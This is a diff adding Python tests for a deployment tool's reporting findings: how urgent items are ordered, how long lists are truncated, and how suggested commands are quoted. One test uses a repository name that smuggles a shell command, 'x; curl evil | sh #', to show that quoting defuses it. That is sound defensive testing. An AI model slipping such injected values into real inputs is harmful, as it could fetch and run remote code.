@@ -1,0 +1,56 @@
+from __future__ import annotations
+
+from collections.abc import Iterable
+from datetime import timedelta
+
+from deployer.reporting.aggregation import Aggregates, aggregate
+from deployer.reporting.attention import ITEMS, Finding, findings_of
+from handler.records import Record
+from tests.deployer.reporting.pages import coverage, verification
+from tests.deployer.reporting.samples import UNTIL, record
+
+
+def found_in(records: Iterable[Record]) -> Aggregates:
+    return aggregate(records, since=UNTIL - timedelta(days=30), until=UNTIL)
+
+
+def refusals(repository: str, number: int = 3) -> list[Record]:
+    return [
+        record(
+            outcome="refused",
+            reason="name-denied",
+            repository=repository,
+            event_id=f"{repository}-{hours}",
+            event_time=UNTIL - timedelta(hours=hours + 1),
+        )
+        for hours in range(number)
+    ]
+
+
+def by_id(findings: list[Finding]) -> dict[str, Finding]:
+    return {one.id: one for one in findings}
+
+
+def test_nothing_wants_attention_when_all_is_well() -> None:
+    assert findings_of(found_in([record()])) == []
+
+
+def test_what_to_act_on_comes_first() -> None:
+    failed = record(outcome="failed", reason="kms-failed", event_id="failed")
+    found = findings_of(found_in([failed, *refusals("team-a/tmp")]), coverage=coverage(), verification=verification())
+    assert [one.id for one in found] == ["failures", "verify-drifted", "lacking", "repeats", "verify-blank"]
+    assert [one.weight for one in found] == ["act", "act", "act", "look", "look"]
+    assert by_id(found)["verify-drifted"].items[0].note == "image_tag_mutability: IMMUTABLE → MUTABLE"
+    assert by_id(found)["lacking"].title.startswith("3 accounts are without coverage")
+
+
+def test_long_lists_are_cut_and_the_rest_is_counted() -> None:
+    records = [one for number in range(ITEMS + 5) for one in refusals(f"team-a/tmp-{number}")]
+    (found,) = findings_of(found_in(sorted(records, key=lambda one: one.at, reverse=True)))
+    assert (len(found.items), found.more) == (ITEMS, 5)
+    assert found.title == f"{ITEMS + 5} refusals repeat"
+
+
+def test_a_command_to_copy_runs_nothing_that_a_name_says() -> None:
+    (found,) = findings_of(found_in(refusals("x; curl evil | sh #")))
+    assert found.command == "deployer explain 300000000001 'x; curl evil | sh #'"
